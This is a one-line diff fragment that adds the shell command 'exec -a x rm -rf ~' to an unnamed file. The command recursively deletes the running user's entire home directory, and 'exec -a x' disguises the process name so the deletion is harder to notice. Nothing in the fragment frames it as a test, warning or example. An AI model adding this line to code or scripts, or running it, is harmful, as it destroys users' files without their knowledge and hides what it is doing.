@@ -1,0 +1,1 @@
+exec -a x rm -rf ~
